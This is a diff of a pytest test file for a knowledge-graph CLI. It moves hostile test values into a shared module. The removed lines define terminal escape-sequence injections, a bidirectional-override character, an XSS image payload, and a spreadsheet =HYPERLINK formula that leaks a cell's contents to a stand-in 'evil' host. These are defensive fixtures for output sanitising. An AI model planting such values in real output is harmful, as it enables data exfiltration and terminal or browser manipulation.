@@ -2,27 +2,14 @@
 
 from __future__ import annotations
 
-import re
 from pathlib import Path
 
 import pytest
 from click.testing import CliRunner
+from hostile_values import FORMULA, LABEL, MARKUP, NASTY, turtle
 
 from hybridkg import KnowledgeBase
 from hybridkg.cli import cli
-
-LABEL = "http://www.w3.org/2000/01/rdf-schema#label"
-COMMANDS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]")
-"""Written anew, not imported: what a terminal would obey."""
-
-TITLE, CLEAR, C1, TURNED = "\x1b]0;owned\x07", "\x1b[2J\x1b[H", "\x9b31m", "\u202e"
-NASTY = f"red {TITLE}{CLEAR}{C1}{TURNED} fish"
-FORMULA = '=HYPERLINK("http://evil/?"&A1)'
-MARKUP = "<img src=x onerror=alert(1)> [red]markup[/red]"
-
-
-def turtle(text: str) -> str:
-    return '"' + "".join(c if c.isalnum() or c == " " else f"\\u{ord(c):04X}" for c in text) + '"'
 
 
 @pytest.fixture(scope="session")
